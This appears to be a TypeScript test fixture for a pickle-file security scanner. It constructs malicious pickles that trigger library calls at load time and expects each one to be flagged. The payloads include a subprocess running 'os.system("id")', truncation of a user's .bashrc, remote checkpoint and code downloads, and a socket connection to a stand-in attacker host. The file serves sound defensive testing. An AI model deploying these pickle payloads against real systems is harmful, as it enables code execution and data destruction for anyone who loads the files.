import type { UnseenCase } from './unseen-runner.js';

const latin1 = (s: string) => Buffer.from(s, 'latin1');
/** Protocol 2: GLOBAL `module name`, a tuple of string arguments, REDUCE — what `pickle.load` calls while loading. */
const call2 = (module: string, name: string, ...args: string[]) =>
  latin1(`\x80\x02c${module}\n${name}\n(${args.map((a) => `X${u32(a.length)}${a}`).join('')}tR.`);
const u32 = (n: number) => String.fromCharCode(n & 255, (n >> 8) & 255, (n >> 16) & 255, n >>> 24);
/** Protocol 4: STACK_GLOBAL with a dotted name (`find_class` walks attributes), then one string argument. */
const call4 = (module: string, name: string, arg: string) =>
  latin1(
    `\x80\x04\x8c${String.fromCharCode(module.length)}${module}\x8c${String.fromCharCode(name.length)}${name}\x93` +
      `\x8c${String.fromCharCode(arg.length)}${arg}\x85R.`,
  );
/** `pickle.dumps(np.memmap(path, mode='w+', shape=(2,)), protocol=2)` by Debian's numpy 1.24: an ndarray rebuild. */
const MEMMAP_PICKLE =
  '8002636e756d70792e636f72652e6d756c746961727261790a5f7265636f6e7374727563740a7100636e756d70790a6d656d6d61700a' +
  '71014b00857102635f636f646563730a656e636f64650a7103580100000062710458060000006c6174696e3171058671065271078771' +
  '08527109284b014b0285710a636e756d70790a64747970650a710b58020000007531710c898887710d52710e284b0358010000007c71' +
  '0f4e4e4e4affffffff4affffffff4b00747110628968035802000000000071116805867112527113747114622e';

/** A call into one of the libraries models are saved with, which the unpickler makes while loading. */
const libraryCall = (what: string, module: string, name: string, loader: string, ...args: string[]): UnseenCase => ({
  name: `${module}.${name}: ${what}`,
  loader,
  files: { 'm.pkl': call2(module, name, ...args) },
  want: ['CPI001:error'],
});

/**
 * Functions of the libraries models are saved with (an unknown name from those is only a warning) that load other
 * pickles, download, run code or write files when `pickle.load` (Lib/pickle.py `load_reduce`) calls them.
 */
export const ROUND4_LIBRARY_CASES: readonly UnseenCase[] = [
  libraryCall(
    'torch.load of a URL',
    'lightning.fabric.utilities.cloud_io',
    '_load',
    'lightning/fabric/utilities/cloud_io.py _load: fsspec.open(path) then torch.load',
    'https://example.invalid/evil.ckpt',
  ),
  libraryCall(
    'torch.load of a URL',
    'pytorch_lightning.utilities.cloud_io',
    'load',
    'pytorch_lightning/utilities/cloud_io.py load (fsspec + torch.load)',
    's3://bucket/evil.ckpt',
  ),
  libraryCall(
    'pickle.load of another file',
    'statsmodels.iolib.smpickle',
    'load_pickle',
    'statsmodels/iolib/smpickle.py load_pickle: pickle.load(get_file_obj(fname))',
    '/tmp/next.pkl',
  ),
  libraryCall(
    'pickle.load (api re-export)',
    'statsmodels.api',
    'load',
    'statsmodels/api.py: load = load_pickle',
    '/tmp/next.pkl',
  ),
  libraryCall(
    'cloudpickle.loads vendored by joblib',
    'joblib.externals.cloudpickle',
    'loads',
    'joblib/externals/cloudpickle: loads = pickle.loads',
    'x',
  ),
  libraryCall(
    'a process started by loky',
    'joblib.externals.loky.backend.popen_loky_posix',
    'Popen',
    'joblib/externals/loky/backend/popen_loky_posix.py Popen._launch (fork_exec)',
    'x',
  ),
  libraryCall(
    'torch.load of a checkpoint path',
    'timm.models',
    'load_checkpoint',
    'timm/models/_helpers.py load_checkpoint → load_state_dict → torch.load',
    '/tmp/evil.pth',
  ),
  libraryCall(
    'imports downloaded code',
    'diffusers.utils.dynamic_modules_utils',
    'get_class_from_dynamic_module',
    'diffusers/utils/dynamic_modules_utils.py get_class_from_dynamic_module → importlib.import_module',
    'evil/repo',
  ),
  libraryCall(
    'deserializes a preset',
    'keras_hub.src.utils.preset_utils',
    'load_serialized_object',
    'keras_hub/src/utils/preset_utils.py load_serialized_object → keras.saving.deserialize_keras_object',
    'hf://evil/preset',
  ),
  libraryCall(
    'runs Python source in a subprocess',
    'sklearn.utils._testing',
    'assert_run_python_script',
    'sklearn/utils/_testing.py assert_run_python_script: writes the source, subprocess.check_output([python, file])',
    'import os; os.system("id")',
  ),
  libraryCall(
    'downloads with pooch',
    'scipy.datasets',
    'face',
    'scipy/datasets/_fetchers.py fetch_data → pooch.retrieve',
  ),
  libraryCall(
    'writes a file',
    'scipy.sparse',
    'save_npz',
    'scipy/sparse/_matrix_io.py save_npz → numpy.savez',
    '/home/user/.bashrc',
  ),
  libraryCall(
    'runs xclip/pbpaste',
    'pandas',
    'read_clipboard',
    'pandas/io/clipboard/__init__.py init_xclip_clipboard: subprocess.Popen',
  ),
  libraryCall('fetches a URL', 'pandas', 'read_html', 'pandas/io/html.py read_html → urlopen', 'https://x.invalid/'),
  libraryCall('runs pytest', 'pandas.util._tester', 'test', 'pandas/util/_tester.py test → pytest.main'),
  libraryCall(
    'imports modules by name',
    'numpy.lib.utils',
    'lookfor',
    'numpy/lib/utils.py lookfor(what, module) → __import__(module)',
    'x',
  ),
  libraryCall(
    'rewrites source files',
    'torch.utils.hipify.hipify_python',
    'hipify',
    'torch/utils/hipify/hipify_python.py hipify: rewrites files under project_directory',
    '/home/user',
  ),
  libraryCall(
    'a model loader behind a CLI entry point',
    'torch.utils.model_dump',
    'main',
    'torch/utils/model_dump/__init__.py main → torch.jit.load / zipfile',
  ),
  libraryCall(
    'runs accelerate launch (a subprocess)',
    'accelerate.commands.launch',
    'launch_command',
    'accelerate/commands/launch.py launch_command → subprocess.Popen',
  ),
  {
    name: 'logging.FileHandler with mode w (truncates the file)',
    loader: 'Lib/logging/__init__.py FileHandler.__init__ → _open: open(baseFilename, mode)',
    files: { 'm.pkl': call2('logging', 'FileHandler', '/home/user/.bashrc', 'w') },
    want: ['CPI001:error'],
  },
  {
    name: 'logging.handlers.SocketHandler (connects out when it emits)',
    loader: 'Lib/logging/handlers.py SocketHandler',
    files: { 'm.pkl': call2('logging.handlers', 'SocketHandler', 'attacker.invalid', '9000') },
    want: ['CPI001:error'],
  },
  {
    name: 'peft PeftModel.from_pretrained at protocol 4 (a hub loader)',
    loader:
      'Lib/pickle.py find_class (protocol 4 dotted names) → PeftModel.from_pretrained downloads and loads weights',
    files: { 'm.pkl': call4('peft', 'PeftModel.from_pretrained', 'evil/adapter') },
    want: ['CPI001:error'],
  },
  {
    name: 'numpy.memmap called with w+ (creates or truncates the file)',
    loader: 'numpy/core/memmap.py memmap.__new__: open(filename, mode) before mmap',
    files: { 'm.pkl': call2('numpy', 'memmap', '/home/user/.bashrc', 'uint8', 'w+') },
    want: ['CPI001:error'],
  },
  {
    name: 'a pickled memmap names numpy.memmap only as the ndarray subclass (no file)',
    loader: 'numpy ndarray.__reduce__ → numpy.core.multiarray._reconstruct(memmap, …) = ndarray.__new__',
    files: { 'm.pkl': Buffer.from(MEMMAP_PICKLE, 'hex') },
    want: [],
  },
];
